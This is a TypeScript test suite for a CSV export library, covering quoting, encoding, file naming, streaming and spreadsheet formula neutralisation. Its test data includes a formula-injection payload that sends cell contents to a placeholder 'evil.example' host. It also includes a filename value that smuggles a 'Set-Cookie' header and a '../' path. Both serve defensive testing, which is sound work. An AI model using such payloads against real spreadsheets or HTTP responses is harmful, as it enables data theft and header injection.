import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvResponse, fileName, maskedNumber, moments, type Cell } from "@/lib/insights/reports/csv";

/** What RFC 4180 says, read a character at a time. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = "";
      if (text[at] === '"') {
        at += 1;
        while (text[at] !== '"' || text[at + 1] === '"') {
          if (at >= text.length) throw new Error("a quote is not closed");
          if (text[at] === '"') at += 1;
          field += text[at];
          at += 1;
        }
        at += 1;
      } else {
        while (at < text.length && !',"\r\n'.includes(text[at]!)) field += text[at++];
      }
      record.push(field);
      if (text[at] === ",") at += 1;
      else break;
    }
    if (text.slice(at, at + 2) !== "\r\n") throw new Error(`no end of line at ${at}`);
    at += 2;
    records.push(record);
  }
  return records;
}

async function csv(cells: Cell[][]): Promise<string> {
  const names = [...Array(cells[0]?.length ?? 1).keys()];
  const columns = names.map((index) => ({ name: `c${index}`, value: (row: Cell[]) => row[index] }));
  return (await csvResponse("test", columns, cells)).text();
}

async function written(cell: Cell): Promise<string> {
  const text = await csv([[cell, 1]]);
  return text.slice("c0,c1\r\n".length, -",1\r\n".length);
}

interface Report {
  country: string;
  attempted: number;
  mature: { attempted: number; conversion: number | null };
  previous: { mature: { attempted: number } } | null;
}

const rows: Report[] = [
  { country: "BR", attempted: 12, mature: { attempted: 8, conversion: 0.25 }, previous: null },
  {
    country: "CI",
    attempted: 0,
    mature: { attempted: 0, conversion: null },
    previous: { mature: { attempted: 3 } },
  },
];

describe("a report as a file", () => {
  test("has a header line, fields by their path, and columns made on the way", async () => {
    const response = await csvResponse(
      "destinations-2026-10-26-2026-11-23",
      [
        "country",
        "mature.attempted",
        "mature.conversion",
        "previous.mature.attempted",
        { name: "unsettled", value: (row) => row.attempted - row.mature.attempted },
      ],
      rows,
    );
    expect(await response.text()).toBe(
      "country,mature.attempted,mature.conversion,previous.mature.attempted,unsettled\r\n" +
        "BR,8,0.25,,4\r\n" +
        "CI,0,,3,0\r\n",
    );
    expect(Object.fromEntries(response.headers)).toEqual({
      "content-type": "text/csv; charset=utf-8; header=present",
      "content-disposition": 'attachment; filename="destinations-2026-10-26-2026-11-23.csv"',
      "cache-control": "no-store",
    });
  });

  test("begins with a byte order mark, once, however many rows there are", async () => {
    const numbered = Array.from({ length: 250 }, (_, n) => ({ n }));
    for (const rows of [[], numbered]) {
      const bytes = Buffer.from(await (await csvResponse("x", ["n"], rows)).arrayBuffer());
      expect(bytes.subarray(0, 4)).toEqual(Buffer.from([0xef, 0xbb, 0xbf, 0x6e]));
      expect(bytes.lastIndexOf(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(0);
    }
  });

  test.each([
    ["Asia/Kathmandu", "2026-11-20 00:00:00"],
    ["America/New_York", "2026-11-19 13:15:00"],
    ["UTC", "2026-11-19 18:15:00"],
    ["Etc/GMT+5", "2026-11-19 13:15:00"],
  ])("has the times of %s beside those in UTC, and says the zone", async (zone, local) => {
    const rows = [
      { at: new Date("2026-11-19T18:15:00Z"), n: 1 },
      { at: null, n: 2 },
    ];
    const response = await csvResponse("x", [...moments("at"), "n"], rows, zone);
    expect(await response.text()).toBe(
      `at,atLocal,n,tz\r\n2026-11-19T18:15:00.000Z,${local},1,${zone}\r\n,,2,${zone}\r\n`,
    );
  });

  test("has a number as a text that is no formula, without an apostrophe", async () => {
    const masked = maskedNumber("+306989988");
    expect(parseCsv(await csv([[masked]]))[1]).toEqual(["(+306989988***)"]);
  });

  test("does not compile with a field that rows do not have", async () => {
    // @ts-expect-error: there is no such field.
    expect(await (await csvResponse("x", ["mature.atempted"], rows)).text()).toBe(
      "mature.atempted\r\n\r\n\r\n",
    );
  });

  test("has its header line without rows, too", async () => {
    const response = await csvResponse<Report>("none", ["country", "attempted"], []);
    expect(await response.text()).toBe("country,attempted\r\n");
  });

  test("cannot be named out of its header", async () => {
    const response = await csvResponse<Report>('a"\r\nSet-Cookie: b=c; ../é', ["country"], []);
    expect(response.headers.get("content-disposition")).toBe(
      'attachment; filename="a-Set-Cookie-b-c-..-.csv"',
    );
  });

  test.each([
    ["UTC", "blocks-2026-10-26-2026-11-23"],
    ["America/New_York", "blocks-2026-10-25-2026-11-22"],
  ])("is named by its range's dates in %s", (tz, name) => {
    const range = { from: new Date("2026-10-26T00:00Z"), to: new Date("2026-11-23T00:00Z"), tz };
    expect(fileName("blocks", range)).toBe(name);
  });

  test("is named by its filters, so that two files of a day can be told apart", () => {
    const range = { from: new Date("2026-11-25T00:00Z"), to: new Date("2026-11-26T00:00Z"), tz: "UTC" };
    const filters = {
      country: { in: ["GH"], notIn: [] },
      network: { in: [""], notIn: ["MTN"] },
      failed: true,
    };
    expect(fileName("messages", range, filters)).toBe(
      "messages-GH-unknown-without-MTN-failed-2026-11-25-2026-11-26",
    );
    expect(fileName("messages", range, { confirmed: false })).toBe(
      "messages-not-confirmed-2026-11-25-2026-11-26",
    );
  });
});

describe("a cell", () => {
  test.each<[Cell, string]>([
    ["plain", "plain"],
    ["", ""],
    [null, ""],
    [undefined, ""],
    [true, "true"],
    [false, "false"],
    [0, "0"],
    [-0.0075, "-0.0075"],
    [new Date("2026-10-26T01:30:00Z"), "2026-10-26T01:30:00.000Z"],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["two\nlines", '"two\nlines"'],
    ["two\rlines", '"two\rlines"'],
    ["Côte d’Ivoire 🇨🇮", "Côte d’Ivoire 🇨🇮"],
  ])("%j is written as %j", async (cell, text) => {
    expect(await written(cell)).toBe(text);
  });

  test.each([
    "=1+1",
    "+5511987",
    "-0.0075",
    "@SUM(A1)",
    "\t=1",
    "\rx",
    "\nx",
    "\0=1",
    " =1+1",
    " \u00a0\ufeff-1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    '=HYPERLINK("https://evil.example?"&A1,"ok")',
  ])("%j is no formula", async (text) => {
    expect(parseCsv(await csv([[text]]))).toEqual([["c0"], [`'${text}`]]);
  });

  test.each(["a=b", "'=1", "2026-10-26", " plain", "1-2", "a@b.example"])("%j stays", async (text) => {
    expect(await written(text)).toBe(text);
  });

  test("may be a bigint", async () => expect(await written(-12n)).toBe("-12"));

  test("names of columns are texts as well", async () => {
    const response = await csvResponse("x", [{ name: '=1,"', value: () => 1 }], [{}]);
    expect(await response.text()).toBe('"\'=1,"""\r\n1\r\n');
  });

  test("reads back as it was, whatever it holds, but for the apostrophe", async () => {
    const anyText = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.string({ unit: fc.constantFrom(...Array.from("=+-@\t\r\n\",;' ab＝\0")) }),
    );
    const anyCell = fc.oneof(
      anyText,
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.constant(null),
      fc.boolean(),
    );
    const table = fc
      .integer({ min: 1, max: 5 })
      .chain((width) =>
        fc.array(fc.array(anyCell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 8 }),
      );
    await fc.assert(
      fc.asyncProperty(table, async (cells) => {
        const [, ...records] = parseCsv(await csv(cells));
        const given = cells.flat();
        const read = records.flat();
        const restored = read.map((text, index) => (text === `'${given[index]}` ? text.slice(1) : text));
        expect(restored).toEqual(given.map((cell) => String(cell ?? "")));
        expect(
          read.filter((text, index) => typeof given[index] === "string" && /^\s*[=+\-@]/.test(text)),
        ).toEqual([]);
      }),
      { numRuns: 40 },
    );
  });
});

describe("rows are taken as they are read", () => {
  /** Endless, and counting how many were taken and whether it was told to stop. */
  function source() {
    const seen = { taken: 0, stopped: false };
    async function* generate() {
      try {
        for (;;) {
          await Promise.resolve();
          yield { n: seen.taken++ };
        }
      } finally {
        seen.stopped = true;
      }
    }
    return { seen, rows: generate() };
  }

  test("a batch at a time, and no further once the client has gone", async () => {
    const { seen, rows } = source();
    const reader = (await csvResponse("endless", ["n"], rows)).body!.getReader();
    const decoder = new TextDecoder();
    const first = decoder.decode((await reader.read()).value);
    expect(parseCsv(first).slice(0, 2)).toEqual([["n"], ["0"]]);
    const atOnce = seen.taken;
    expect(atOnce).toBeLessThanOrEqual(200);
    await new Promise(setImmediate);
    expect(seen.taken).toBe(atOnce);

    const second = decoder.decode((await reader.read()).value);
    expect(parseCsv(first + second).map(([n]) => n)).toEqual([
      "n",
      ...Array.from({ length: 2 * atOnce }, (_, n) => String(n)),
    ]);

    await reader.cancel();
    expect(seen).toEqual({ taken: 2 * atOnce, stopped: true });
  });

  test.each([0, 1, 99, 100, 101, 250])("%i of them make as many lines", async (count) => {
    const numbered = Array.from({ length: count }, (_, n) => ({ n }));
    const text = await (await csvResponse("some", ["n"], numbered)).text();
    expect(parseCsv(text)).toEqual([["n"], ...numbered.map(({ n }) => [String(n)])]);
  });

  test("a failure before the first batch is the caller's to answer", async () => {
    async function* fails(): AsyncGenerator<{ n: number }> {
      throw await Promise.resolve(new Error("no database"));
    }
    await expect(csvResponse("x", ["n"], fails())).rejects.toThrow("no database");
  });

  test("a later one breaks the file off", async () => {
    async function* fails() {
      for (let n = 0; n < 1000; n += 1) yield { n };
      throw await Promise.resolve(new Error("no database"));
    }
    const response = await csvResponse("x", ["n"], fails());
    await expect(response.text()).rejects.toThrow("no database");
  });
});
